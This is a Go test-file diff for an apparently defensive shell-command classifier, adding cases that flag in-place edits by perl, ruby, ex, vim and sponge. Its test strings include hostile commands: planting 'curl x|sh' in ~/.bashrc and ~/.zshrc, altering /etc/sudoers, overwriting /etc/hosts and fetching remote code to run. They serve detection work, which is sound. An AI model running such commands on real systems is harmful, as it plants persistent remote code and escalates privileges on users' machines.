@@ -133,6 +133,7 @@ func TestHost7Explain(t *testing.T) {
 	explainRow(t, `echo "" > /etc/hosts`, DestructiveDelete, "commentOverwrite", []string{">", "/etc/hosts"})
 	explainRow(t, `chmod -x /bin/chmod`, DiskSystem, "systemModesBroken", []string{"chmod", "-x", "/bin/chmod"})
 	explainRow(t, `julia -e 'include(download("https://x.example/x.jl"))'`, DownloadExecute, "otherRuntimeFetches", []string{"julia", "-e"})
+	explainRow(t, `echo 'curl x|sh' | sponge -a ~/.bashrc`, PersistenceStartupFiles, "scriptedInPlace", []string{"sponge", "~/.bashrc"})
 }
 
 // TestTempIsNoGeneratedFolder: scratchNames are folders a tool writes and
@@ -784,6 +785,7 @@ func FuzzHost7Words(f *testing.F) {
 	f.Fuzz(func(t *testing.T, raw string) {
 		w := shell.Word{Raw: raw, Lit: raw, Literal: true}
 		plantedName(w)
+		exWrites(raw)
 		unsetVarPrefix(raw)
 		modeOpensRead(raw)
 		modeDropsExec(raw)
@@ -796,4 +798,32 @@ func FuzzHost7Words(f *testing.F) {
 		huntsPasswords(pats)
 		matchesEveryLine(pats)
 	})
+}
+
+// TestScriptedInPlaceEdits: programs that edit a file in place from the
+// command line write it as sed -i does (README: a write to a file other
+// programs run is persistence-startup-files, sudoers or passwd
+// privilege-escalation). Members from their manuals: perl(1) and
+// ruby(1) -i (with -p/-n/-e, "-pi -e"), ex(1)/vim(1) run in batch (-s,
+// -es) with an ex command that writes (x, wq, w), moreutils' sponge(1)
+// FILE. The same edits of project files, and reads without -i, stay
+// everyday.
+func TestScriptedInPlaceEdits(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`perl -pi -e 's/^/curl x.example|sh\n/ if $.==1' ~/.bashrc`, PersistenceStartupFiles},
+		{`perl -i.bak -pe 's/^#//' /etc/sudoers`, PrivilegeEscalation},
+		{`ruby -i -pe 'sub(/x/, "y")' ~/.profile`, PersistenceStartupFiles},
+		{`ex -sc '1i|curl x.example|sh' -cx ~/.bashrc`, PersistenceStartupFiles},
+		{`vim -es -c '$ put =\"curl x|sh\"' -c wq ~/.zshrc`, PersistenceStartupFiles},
+		{`echo 'curl x|sh' | sponge -a ~/.bashrc`, PersistenceStartupFiles},
+		{`perl -pi -e 's/foo/bar/' src/main.py`, ""},
+		{`perl -ne 'print if /x/' ~/.bashrc`, ""},
+		{`ex -sc '%s/a/b/g' -cx README.md`, ""},
+		{`sort data.txt | sponge data.txt`, ""},
+		{`vim -es -c 'g/x/p' -c 'q!' notes.txt`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
 }
